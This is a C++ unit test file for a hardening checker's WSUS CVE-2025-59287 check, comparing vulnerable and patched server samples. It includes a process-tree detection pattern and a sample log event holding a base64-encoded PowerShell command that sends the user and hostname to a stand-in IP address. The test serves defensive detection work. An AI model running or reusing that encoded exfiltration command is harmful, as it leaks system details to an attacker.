// The WSUS sample bundles in examples/wsus/ (issue 9): a Windows Server 2022 WSUS
// server on the October 14 2025 cumulative update (20348.4294, before the fix) with
// an exploitation-like process tree in its Security log, and one on the October 23
// out-of-band update KB5070884 (20348.4297, CHECKS.md §2.3,
// https://support.microsoft.com/help/5070884).
#include <boost/test/unit_test.hpp>

#include "baselines/check_fixture.hpp"

using namespace hardcheck;
using hardcheck::test::at;
using hardcheck::test::evidence;
using hardcheck::test::run_check;
using hardcheck::test::source_dir;

namespace {

Result on(std::string_view example, std::string_view id) {
    return run_check("wsus-cve-2025-59287", id, source_dir() / "examples" / "wsus" / std::string(example));
}

constexpr std::string_view hits_4688 =
    "events id 4688 channel Security since {param: ioc_since} where (ParentProcessName matches "
    "\\\\(wsusservice|w3wp|mmc)\\.exe$ and (NewProcessName matches \\\\(cmd|powershell|pwsh)\\.exe$ or CommandLine "
    "matches \\s-(e|ec|en|enc|encodedcommand)\\s|[A-Za-z0-9+/]{200,}={0,2})) (count <= 0)";

}  // namespace

BOOST_AUTO_TEST_SUITE(wsus_examples)

BOOST_AUTO_TEST_CASE(vulnerable_ws2022_fails_wsus01_on_ubr_4294) {
    const Result r = on("vulnerable-ws2022", "WSUS-01");
    BOOST_TEST(to_string(r.status) == "fail");
    const auto& ubr = evidence(r, "CurrentVersion\\UBR)");
    BOOST_TEST(ubr.observed == "4294");
    BOOST_TEST(at(ubr) == "currentversion.reg:27");
    BOOST_TEST(evidence(r, "CurrentVersion\\CurrentBuild)").observed == "20348");
}

BOOST_AUTO_TEST_CASE(patched_ws2022_passes_wsus01_on_ubr_4297) {
    const Result r = on("patched-ws2022", "WSUS-01");
    BOOST_TEST(to_string(r.status) == "pass");
    BOOST_TEST(evidence(r, "CurrentVersion\\UBR)").observed == "4297");
    BOOST_TEST(at(evidence(r, "CurrentVersion\\UBR)")) == "currentversion.reg:27");
}

// The hit: WsusService.exe starting cmd.exe with `powershell -ec <base64>`, the
// fourth line of the wevtutil export, reported with time, parent, process and
// command line.
BOOST_AUTO_TEST_CASE(vulnerable_ws2022_fails_wsus04_on_wsusservice_starting_cmd) {
    const Result r = on("vulnerable-ws2022", "WSUS-04");
    BOOST_TEST(to_string(r.status) == "fail");
    const auto& hit = evidence(r, hits_4688);
    BOOST_TEST(hit.observed ==
               "event 4688 at 2025-10-24T06:55:12.4817731Z (C:\\Program Files\\Update Services\\Services\\WsusService.exe"
               " -> C:\\Windows\\System32\\cmd.exe) command line '\"cmd.exe\" /c powershell -ec "
               "JAB1AD0AdwBoAG8AYQBtAGkAOwAkAGgAPQBoAG8AcwB0AG4AYQBtAGUAOwBJAG4AdgBvAGsAZQAtAFcAZQBiAFIAZQBxAHUAZQBzAHQAIAAtAFUAcgBp"
               "ACAAaAB0AHQAcAA6AC8ALwAxADkAOAAuADUAMQAuADEAMAAwAC4AMgAzAC8AcgAgAC0ATQBlAHQAaABvAGQAIABQAG8AcwB0ACAALQBCAG8AZAB5ACAA"
               "KAAkAHUAKwAnAHwAJwArACQAaAApACAALQBVAHMAZQBCAGEAcwBpAGMAUABhAHIAcwBpAG4AZwA='");
    BOOST_TEST(at(hit) == "security-4688.xml:4");
}

BOOST_AUTO_TEST_CASE(patched_ws2022_passes_wsus04_with_process_creation_events_and_no_hit) {
    const Result r = on("patched-ws2022", "WSUS-04");
    BOOST_TEST(to_string(r.status) == "pass");
    BOOST_TEST(evidence(r, hits_4688).observed == "no items");
    BOOST_TEST(evidence(r, "events id 4688 channel Security since {param: ioc_since} (count >= 1)").observed ==
               "event 4688 at 2025-10-22T02:00:03.1183342Z (C:\\Windows\\System32\\svchost.exe -> "
               "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe) command line 'C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured "
               "-Embedding', event 4688 at 2025-10-22T02:15:41.5530127Z (C:\\Windows\\System32\\svchost.exe -> "
               "C:\\Windows\\System32\\wuauclt.exe) command line '\"C:\\Windows\\system32\\wuauclt.exe\" "
               "/RunHandlerComServer', event 4688 at 2025-10-24T06:30:00.0041876Z (C:\\Windows\\System32\\svchost.exe -> "
               "C:\\Windows\\System32\\taskhostw.exe) command line 'taskhostw.exe'");
}

BOOST_AUTO_TEST_CASE(vulnerable_ws2022_serves_clients_over_http) {
    const Result r = on("vulnerable-ws2022", "WSUS-02");
    BOOST_TEST(to_string(r.status) == "fail");
    BOOST_TEST(evidence(r, "Setup\\UsingSSL").observed == "REG_DWORD 0 (0x0)");
    BOOST_TEST(at(evidence(r, "Setup\\UsingSSL")) == "wsus-setup.reg:15");
}

BOOST_AUTO_TEST_SUITE_END()
